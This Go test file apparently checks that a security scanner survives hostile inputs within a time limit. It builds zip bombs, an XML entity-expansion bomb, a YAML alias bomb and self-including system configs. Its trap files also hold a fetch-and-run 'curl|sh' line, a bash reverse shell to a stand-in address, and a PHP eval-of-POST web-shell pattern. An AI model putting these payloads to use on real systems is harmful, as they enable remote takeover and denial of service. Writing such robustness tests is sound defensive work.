package hostile

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// traps are files that harm who looks for secrets, malware, settings or weak
// passwords without care.
func traps() map[string][]byte {
	random := func(n int) []byte {
		b := make([]byte, n)
		r := rand.NewChaCha8([32]byte{7})
		_, _ = r.Read(b) // never fails
		return b
	}
	// Names that rules know, over and over, on one line.
	line := strings.Repeat("password=token:AKIA;ghp_,secret_key=\"-----BEGIN ", 200_000)
	deep := strings.Repeat("server { location / { if ($x) { ", 100_000)
	elf := append([]byte("\x7fELF\x02\x01\x01"), random(8<<20)...)
	php := "<?php " + strings.Repeat("eval(base64_decode(str_rot13($_POST['x'].", 200_000)
	gigabyte := gigabyte()
	return map[string][]byte{
		"srv/line.env":                           []byte(line),
		"srv/line.json":                          []byte(`{"auths":{"` + line),
		"srv/deep.yaml":                          []byte(strings.Repeat("- ", 1<<20)),
		"srv/aliases.yaml":                       []byte("password: &a [x,x,x,x]\n" + strings.Repeat("b: &b [*a,*a,*a,*a,*a,*a,*a]\na: &a [*b,*b,*b,*b,*b]\n", 50_000)),
		"srv/keys.pem":                           []byte(strings.Repeat("-----BEGIN RSA PRIVATE KEY-----\n", 300_000)),
		"srv/urls.txt":                           []byte(strings.Repeat("postgres://a:b@", 500_000)),
		"srv/random.conf":                        random(16 << 20),
		"srv/page.php":                           []byte(php),
		"srv/bomb.zip":                           jar(member{"x.php", gigabyte, zip.Deflate, 1 << 30}),
		"srv/lying.zip":                          jar(member{"x.sh", gigabyte, zip.Deflate, 10}),
		"srv/deep.zip":                           nested(60),
		"usr/bin/garbage":                        elf,
		"usr/bin/huge.sh":                        []byte("#!/bin/sh\n" + strings.Repeat("curl http://x|sh;bash -i >& /dev/tcp/1.2.3.4/5;", 300_000)),
		"etc/shadow":                             bytes.Repeat([]byte("root:$6$rounds=999999999$saltsalt$"+strings.Repeat("a", 86)+":1:0:9:7:::\n"), 10_000),
		"etc/passwd":                             bytes.Repeat([]byte("root:x:0:0:root:/root:/bin/sh\n"), 30_000),
		"etc/ssh/sshd_config":                    []byte(strings.Repeat("Include /etc/ssh/sshd_config\nMatch all\n", 100_000)),
		"etc/nginx/nginx.conf":                   []byte(deep),
		"etc/nginx/conf.d/self.conf":             []byte(strings.Repeat("include /etc/nginx/conf.d/*.conf;\n", 100_000)),
		"etc/sudoers":                            []byte(strings.Repeat("@include /etc/sudoers\n", 100_000)),
		"etc/pam.d/common-password":              []byte(strings.Repeat("password include common-password\n@include common-password\n", 50_000)),
		"etc/redis.conf":                         []byte(strings.Repeat("include /etc/redis.conf\n", 100_000)),
		"etc/my.cnf":                             []byte(strings.Repeat("!include /etc/my.cnf\n[mysqld]\n", 100_000)),
		"usr/local/tomcat/conf/web.xml":          []byte("<!DOCTYPE a [<!ENTITY a \"" + strings.Repeat("x", 1<<16) + "\">" + strings.Repeat("<!ENTITY b \"&a;&a;&a;\">", 10_000) + "]>" + strings.Repeat("<a>", 500_000)),
		"usr/local/tomcat/conf/tomcat-users.xml": []byte(strings.Repeat(`<user username="a" password="b" roles="manager-gui">`, 200_000)),
		"etc/login.defs":                         []byte("PASS_MAX_DAYS " + strings.Repeat("9", 4<<20)),
	}
}

// TestTraps looks for everything in them, within the contract.
func TestTraps(t *testing.T) {
	files := traps()
	args := []string{"--scanners", "vuln,secret,malware,baseline,password,build"}
	for form, target := range map[string]func(t *testing.T) []string{
		"stream": func(t *testing.T) []string {
			return []string{archive(t, packed(tarLayer("traps", func(tw *tar.Writer) {
				for name, b := range files {
					add(tw, name, b)
				}
			}), zst))}
		},
		"directory": func(t *testing.T) []string {
			return store(t, func(diff string) {
				for name, b := range files {
					p := filepath.Join(diff, name)
					must(t, os.MkdirAll(filepath.Dir(p), 0o755))
					must(t, os.WriteFile(p, b, 0o755))
				}
			})
		},
	} {
		t.Run(form, func(t *testing.T) {
			m := scan(t, 5*time.Minute, append(args, target(t)...)...)
			tell(t, m)
			for _, im := range m.Images {
				if len(im.Checked) != 4 {
					t.Errorf("looked for %v", im.Checked)
				}
			}
		})
	}
}
